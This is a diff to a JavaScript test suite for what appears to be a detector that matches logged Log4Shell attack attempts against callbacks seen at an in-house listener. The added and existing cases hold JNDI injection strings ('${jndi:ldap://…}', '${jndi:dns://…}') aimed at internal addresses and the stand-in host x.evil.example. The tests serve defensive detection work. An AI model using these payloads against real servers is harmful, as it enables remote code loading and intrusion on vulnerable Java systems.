@@ -58,6 +58,18 @@ describe('what another log shows of an attack', () => {
       'likely',
     ],
     [
+      'our own listener was asked itself',
+      access(`\${jndi:dns://10.0.0.9:53/${token}}`),
+      caught(token, token, 'dns', 'TXT'),
+      'callback-seen',
+    ],
+    [
+      'the very name, by a protocol of lookups',
+      access('${jndi:ldap://10.0.0.9:1389/Basic/x%3D}'),
+      caught('Basic/x=', null),
+      'callback-seen',
+    ],
+    [
       'a proxy of ours sent it',
       access('${jndi:ldap://x.evil.example/a}', '12:43:11', '10.0.0.5'),
       query('x.evil.example'),
@@ -93,6 +105,12 @@ describe('what another log shows of an attack', () => {
       'another token of ours',
       access(`\${jndi:ldap://10.0.0.9:1389/${token}}`),
       caught('zzzzzzzzzzzzzzzz2345', 'zzzzzzzzzzzzzzzz2345'),
+    ],
+    ['another name at the same server', access('${jndi:ldap://10.0.0.9:1389/a}'), caught('b', null)],
+    [
+      'another name that a server is asked for',
+      access('${jndi:dns://10.0.0.9:53/name.example}'),
+      caught('other.example', null, 'dns', 'TXT'),
     ],
     ['what cannot fire', access('${jndi:http://x.evil.example/a}'), query('x.evil.example')],
   ])('is not: %s', (_case, attacks, other) => {
